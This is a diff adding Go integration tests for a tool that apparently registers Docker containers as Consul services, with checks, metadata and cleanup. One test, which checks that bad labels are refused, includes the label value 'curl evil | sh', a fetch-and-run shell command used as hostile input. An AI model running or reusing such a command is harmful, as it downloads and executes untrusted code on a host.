@@ -1,0 +1,340 @@
+package register_test
+
+import (
+	"context"
+	"fmt"
+	"net/http"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/docker/docker/api/types/container"
+	"github.com/hashicorp/consul/api"
+
+	"github.com/underlay/underlay/internal/register"
+	"github.com/underlay/underlay/internal/testenv"
+)
+
+func TestIntegrationMacvlanRegistration(t *testing.T) {
+	h := newHarness(t)
+	v4, v6, p4 := testenv.Subnets(t)
+	n := testenv.MacvlanNetwork(t, h.docker, testenv.Network{Name: "mv-" + h.id, Subnet: v4, IPv6Subnet: v6})
+	h.startAgent(nil)
+
+	name := h.id + "-web"
+	id := testenv.RunContainer(t, h.docker, testenv.Container{
+		Name: name, Networks: []string{n.Name}, IPs: map[string]string{n.Name: p4 + "10"},
+		Labels: h.labels(map[string]string{"SERVICE_NAME": "web", "SERVICE_TAGS": "blue,v1", "SERVICE_OWNER": "team-a"}),
+	})
+	svcID := h.node + ":" + name + ":8080"
+	svc := h.waitServices(10*time.Second, svcID)[svcID]
+
+	if svc.Service != "web" || svc.Address != p4+"10" || svc.Port != 8080 {
+		t.Errorf("registered %s at %s:%d, want web at %s10:8080", svc.Service, svc.Address, svc.Port, p4)
+	}
+	if strings.Join(svc.Tags, ",") != "blue,v1" {
+		t.Errorf("tags %v, want [blue v1]", svc.Tags)
+	}
+	v6addr := svc.TaggedAddresses["lan_ipv6"]
+	if !strings.HasPrefix(v6addr.Address, strings.TrimSuffix(v6, "/64")) || v6addr.Port != 8080 {
+		t.Errorf("lan_ipv6 tagged address %+v, want one in %s on port 8080", v6addr, v6)
+	}
+	inspect, err := h.docker.ContainerInspect(context.Background(), id)
+	if err != nil {
+		t.Fatal(err)
+	}
+	wantMeta := map[string]string{
+		"container_id": id, "container_name": name, "image": testenv.TestImage, "network": n.Name,
+		"mac": inspect.NetworkSettings.Networks[n.Name].MacAddress, "owner": "team-a", register.MetaNode: h.node,
+	}
+	for k, v := range wantMeta {
+		if svc.Meta[k] != v {
+			t.Errorf("Meta[%s] = %q, want %q", k, svc.Meta[k], v)
+		}
+	}
+	// The catalog, not just the local agent, has it.
+	testenv.Eventually(t, 5*time.Second, func() (bool, string) {
+		entries, _, err := h.api.Catalog().Service("web", "", nil)
+		return err == nil && len(entries) == 1 && entries[0].ServiceAddress == p4+"10", fmt.Sprintf("catalog %v %v", entries, err)
+	})
+
+	if err := h.docker.ContainerStop(context.Background(), id, container.StopOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	h.waitServices(10 * time.Second)
+}
+
+func TestIntegrationSwarmTasks(t *testing.T) {
+	h := newHarness(t)
+	leave := testenv.Swarm(t, h.docker)
+	defer leave()
+	v4, _, _ := testenv.Subnets(t)
+	netName := testenv.SwarmMacvlanNetwork(t, h.docker, "sw-"+h.id, v4)
+	h.startAgent(nil)
+
+	svcName := "svc-" + h.id
+	testenv.SwarmService(t, h.docker, svcName, netName, 2, h.labels(nil))
+
+	var svcs map[string]*api.AgentService
+	testenv.Eventually(t, 60*time.Second, func() (bool, string) {
+		svcs = h.services()
+		return len(svcs) == 2, fmt.Sprintf("%d services registered, want 2", len(svcs))
+	})
+	slots := map[string]bool{}
+	for id, s := range svcs {
+		if s.Service != svcName {
+			t.Errorf("%s registered as %q, want the swarm service name %q", id, s.Service, svcName)
+		}
+		if !strings.HasPrefix(s.Address, strings.TrimSuffix(v4, "0/24")) {
+			t.Errorf("%s address %s not on the macvlan subnet %s", id, s.Address, v4)
+		}
+		for _, k := range []string{"swarm_service_id", "swarm_task_id", "swarm_node_id", "swarm_slot", "container_id", "mac", "network"} {
+			if s.Meta[k] == "" {
+				t.Errorf("%s: Meta %s missing: %v", id, k, s.Meta)
+			}
+		}
+		slots[s.Meta["swarm_slot"]] = true
+	}
+	if !slots["1"] || !slots["2"] {
+		t.Errorf("slots %v, want 1 and 2", slots)
+	}
+}
+
+func TestIntegrationChecks(t *testing.T) {
+	h := newHarness(t)
+	v4, _, p4 := testenv.Subnets(t)
+	netName := "br-" + h.id
+	testenv.BridgeNetwork(t, h.docker, netName, v4)
+	// The bridge's container addresses are reachable from the root
+	// namespace, where Consul runs, so HTTP checks really pass or fail.
+	h.startAgent(func(c *register.Config) { c.Policy.Internal = true })
+
+	name := h.id + "-chk"
+	testenv.RunContainer(t, h.docker, testenv.Container{
+		Name: name, Networks: []string{netName}, IPs: map[string]string{netName: p4 + "20"},
+		Labels: h.labels(map[string]string{
+			"SERVICE_CHECK_HTTP": "/health", "SERVICE_CHECK_INTERVAL": "1s", "SERVICE_CHECK_TIMEOUT": "2s",
+			"SERVICE_CHECK_TCP": "true", "SERVICE_CHECK_TTL": "30s", "SERVICE_CHECK_GRPC": "true",
+			"SERVICE_CHECK_DEREGISTER_AFTER": "10m", "SERVICE_CHECK_INITIAL_STATUS": "warning",
+		}),
+	})
+	svcID := h.node + ":" + name + ":8080"
+	h.waitServices(10*time.Second, svcID)
+
+	checks, err := h.api.Agent().ChecksWithFilter(fmt.Sprintf("ServiceID == %q", svcID))
+	if err != nil {
+		t.Fatal(err)
+	}
+	kinds := map[string]string{}
+	for _, c := range checks {
+		kinds[c.Type] = c.CheckID
+	}
+	for _, k := range []string{"http", "tcp", "ttl", "grpc"} {
+		if kinds[k] == "" {
+			t.Errorf("no %s check registered; checks: %v", k, kinds)
+		}
+	}
+	if ttl := checks[kinds["ttl"]]; ttl != nil && ttl.Status != "warning" {
+		t.Errorf("TTL check status %s, want the initial status warning", ttl.Status)
+	}
+	httpCheck := kinds["http"]
+	waitCheck(t, h.api, httpCheck, "passing")
+
+	// Switch the server's health and watch Consul's HTTP check follow.
+	setHealth(t, p4+"20", 500)
+	waitCheck(t, h.api, httpCheck, "critical")
+	setHealth(t, p4+"20", 200)
+	waitCheck(t, h.api, httpCheck, "passing")
+}
+
+func TestIntegrationHealthcheckMirror(t *testing.T) {
+	h := newHarness(t)
+	v4, _, p4 := testenv.Subnets(t)
+	netName := "br-" + h.id
+	testenv.BridgeNetwork(t, h.docker, netName, v4)
+	h.startAgent(func(c *register.Config) { c.Policy.Internal = true })
+
+	name := h.id + "-hc"
+	testenv.RunContainer(t, h.docker, testenv.Container{
+		Name: name, Networks: []string{netName}, IPs: map[string]string{netName: p4 + "30"},
+		Labels: h.labels(nil),
+		Healthcheck: &container.HealthConfig{
+			Test:     []string{"CMD", "/testserver", "-probe", "http://127.0.0.1:8080/health"},
+			Interval: 500 * time.Millisecond, Timeout: 2 * time.Second, Retries: 1,
+		},
+	})
+	svcID := h.node + ":" + name + ":8080"
+	h.waitServices(10*time.Second, svcID)
+	mirror := svcID + register.HealthCheckSuffix
+	waitCheck(t, h.api, mirror, "passing")
+	setHealth(t, p4+"30", 503)
+	waitCheck(t, h.api, mirror, "critical")
+	setHealth(t, p4+"30", 200)
+	waitCheck(t, h.api, mirror, "passing")
+}
+
+func TestIntegrationNetworkChoice(t *testing.T) {
+	h := newHarness(t)
+	a4, _, pa := testenv.Subnets(t)
+	b4, _, pb := testenv.Subnets(t)
+	na := testenv.MacvlanNetwork(t, h.docker, testenv.Network{Name: "a-" + h.id, Subnet: a4})
+	nb := testenv.MacvlanNetwork(t, h.docker, testenv.Network{Name: "b-" + h.id, Subnet: b4})
+	h.startAgent(nil)
+
+	ips := map[string]string{na.Name: pa + "40", nb.Name: pb + "40"}
+	// Listed b first: the choice must not depend on attach order.
+	testenv.RunContainer(t, h.docker, testenv.Container{Name: h.id + "-default", Networks: []string{nb.Name, na.Name}, IPs: ips, Labels: h.labels(nil)})
+	ips2 := map[string]string{na.Name: pa + "41", nb.Name: pb + "41"}
+	testenv.RunContainer(t, h.docker, testenv.Container{
+		Name: h.id + "-picked", Networks: []string{na.Name, nb.Name}, IPs: ips2,
+		Labels: h.labels(map[string]string{"SERVICE_NETWORK": nb.Name}),
+	})
+	def, picked := h.node+":"+h.id+"-default:8080", h.node+":"+h.id+"-picked:8080"
+	svcs := h.waitServices(20*time.Second, def, picked)
+	if got := svcs[def].Address; got != pa+"40" {
+		t.Errorf("default choice registered %s, want %s40 on %s (first underlay network by name)", got, pa, na.Name)
+	}
+	if got := svcs[picked].Address; got != pb+"41" {
+		t.Errorf("SERVICE_NETWORK=%s registered %s, want %s41", nb.Name, got, pb)
+	}
+}
+
+func TestIntegrationPublishedPorts(t *testing.T) {
+	h := newHarness(t)
+	h.startAgent(func(c *register.Config) { c.Policy.HostIP = "192.0.2.7" })
+	name := h.id + "-pub"
+	port := fmt.Sprint(20000 + int(h.id[0])*10 + int(h.id[1])%10)
+	testenv.RunContainer(t, h.docker, testenv.Container{
+		Name: name, Labels: h.labels(nil), Publish: map[string]string{"8080/tcp": port},
+	})
+	svcID := h.node + ":" + name + ":8080"
+	svc := h.waitServices(10*time.Second, svcID)[svcID]
+	if svc.Address != "192.0.2.7" || fmt.Sprint(svc.Port) != port {
+		t.Errorf("bridge container registered at %s:%d, want the host IP and published port 192.0.2.7:%s", svc.Address, svc.Port, port)
+	}
+}
+
+func TestIntegrationCleanupAfterAgentDown(t *testing.T) {
+	h := newHarness(t)
+	v4, _, _ := testenv.Subnets(t)
+	n := testenv.MacvlanNetwork(t, h.docker, testenv.Network{Name: "mv-" + h.id, Subnet: v4})
+	h.startAgent(nil)
+	keep := testenv.RunContainer(t, h.docker, testenv.Container{Name: h.id + "-keep", Networks: []string{n.Name}, Labels: h.labels(nil)})
+	gone := testenv.RunContainer(t, h.docker, testenv.Container{Name: h.id + "-gone", Networks: []string{n.Name}, Labels: h.labels(nil)})
+	keepID, goneID := h.node+":"+h.id+"-keep:8080", h.node+":"+h.id+"-gone:8080"
+	h.waitServices(10*time.Second, keepID, goneID)
+
+	h.stopAgent()
+	ctx := testenv.Context(t, 30*time.Second)
+	if err := h.docker.ContainerRemove(ctx, gone, container.RemoveOptions{Force: true}); err != nil {
+		t.Fatal(err)
+	}
+	// A service nobody marked as underlay's, which must survive.
+	foreign := &api.AgentServiceRegistration{ID: "foreign-" + h.id, Name: "foreign", Port: 1, Meta: map[string]string{"container_id": goneID}}
+	if err := h.api.Agent().ServiceRegister(foreign); err != nil {
+		t.Fatal(err)
+	}
+	h.startAgent(nil)
+	h.waitServices(10*time.Second, keepID)
+	if svcs, _ := h.api.Agent().Services(); svcs[foreign.ID] == nil {
+		t.Errorf("agent removed %s, a service it does not own", foreign.ID)
+	}
+	_ = keep
+}
+
+func TestIntegrationUnchangedResyncWritesNothing(t *testing.T) {
+	h := newHarness(t)
+	v4, _, _ := testenv.Subnets(t)
+	n := testenv.MacvlanNetwork(t, h.docker, testenv.Network{Name: "mv-" + h.id, Subnet: v4})
+	h.startAgent(func(c *register.Config) { c.Resync = 300 * time.Millisecond })
+	var want []string
+	for i := range 5 {
+		name := fmt.Sprintf("%s-%d", h.id, i)
+		testenv.RunContainer(t, h.docker, testenv.Container{
+			Name: name, Networks: []string{n.Name}, Labels: h.labels(map[string]string{"SERVICE_CHECK_TCP": "true", "SERVICE_TAGS": "x"}),
+			Healthcheck: &container.HealthConfig{Test: []string{"CMD", "/testserver", "-probe", "http://127.0.0.1:8080/health"}, Interval: time.Second},
+		})
+		want = append(want, h.node+":"+name+":8080")
+	}
+	h.waitServices(10*time.Second, want...)
+	// Let the HEALTHCHECK mirrors settle to passing, then count.
+	testenv.Eventually(t, 15*time.Second, func() (bool, string) {
+		checks, _ := h.api.Agent().ChecksWithFilter(`Status != "passing" and CheckID matches "docker-health"`)
+		return len(checks) == 0, fmt.Sprintf("%d health mirrors not passing", len(checks))
+	})
+	time.Sleep(time.Second)
+	before := h.writes()
+	time.Sleep(2 * time.Second) // several resyncs and drift checks
+	if after := h.writes(); after != before {
+		t.Errorf("resyncs of unchanged containers made %v Consul writes, want 0", after-before)
+	}
+}
+
+func TestIntegrationBadMetadata(t *testing.T) {
+	h := newHarness(t)
+	v4, _, _ := testenv.Subnets(t)
+	n := testenv.MacvlanNetwork(t, h.docker, testenv.Network{Name: "mv-" + h.id, Subnet: v4})
+	h.startAgent(nil)
+	bad := h.id + "-bad"
+	testenv.RunContainer(t, h.docker, testenv.Container{
+		Name: bad, Networks: []string{n.Name},
+		Labels: h.labels(map[string]string{
+			"SERVICE_CHECK_HTTP": "/health", "SERVICE_CHECK_INTERVAL": "10x",
+			"SERVICE_CHECK_SCRIPT": "curl evil | sh", "SERVICE_CHECK_FOO": "1",
+			"SERVICE_99999_NAME": "x", "SERVICE_NAME": "badmeta",
+		}),
+	})
+	good := h.id + "-good"
+	testenv.RunContainer(t, h.docker, testenv.Container{Name: good, Networks: []string{n.Name}, Labels: h.labels(map[string]string{"SERVICE_NAME": "goodmeta"})})
+	badID, goodID := h.node+":"+bad+":8080", h.node+":"+good+":8080"
+	h.waitServices(10*time.Second, badID, goodID)
+
+	checks, err := h.api.Agent().ChecksWithFilter(fmt.Sprintf("ServiceID == %q", badID))
+	if err != nil {
+		t.Fatal(err)
+	}
+	// Consul 1.8 does not report a check's interval; the unit tests show the
+	// bad one is replaced by the default.
+	if len(checks) != 1 {
+		t.Errorf("bad container has %d checks, want only the HTTP one", len(checks))
+	}
+	for _, c := range checks {
+		if c.Type != "http" {
+			t.Errorf("check %s has type %s, want http", c.CheckID, c.Type)
+		}
+	}
+	logs := h.logText()
+	for _, want := range []string{"SERVICE_CHECK_INTERVAL", "10x", "SERVICE_CHECK_SCRIPT", "refused", "SERVICE_CHECK_FOO", "SERVICE_99999_NAME", bad} {
+		if !strings.Contains(logs, want) {
+			t.Errorf("agent log does not mention %q:\n%s", want, logs)
+		}
+	}
+	if n := strings.Count(logs, "SERVICE_CHECK_SCRIPT"); n != 1 {
+		t.Errorf("warning about SERVICE_CHECK_SCRIPT logged %d times, want once", n)
+	}
+}
+
+func waitCheck(t *testing.T, c *api.Client, checkID, status string) {
+	t.Helper()
+	testenv.Eventually(t, 30*time.Second, func() (bool, string) {
+		checks, err := c.Agent().Checks()
+		if err != nil {
+			return false, err.Error()
+		}
+		ch := checks[checkID]
+		if ch == nil {
+			return false, "check " + checkID + " missing"
+		}
+		return ch.Status == status, fmt.Sprintf("check %s is %s (%s), want %s", checkID, ch.Status, ch.Output, status)
+	})
+}
+
+// setHealth switches the test server's /health answer.
+func setHealth(t *testing.T, ip string, code int) {
+	t.Helper()
+	resp, err := http.Post(fmt.Sprintf("http://%s:8080/health?status=%d", ip, code), "text/plain", nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+}
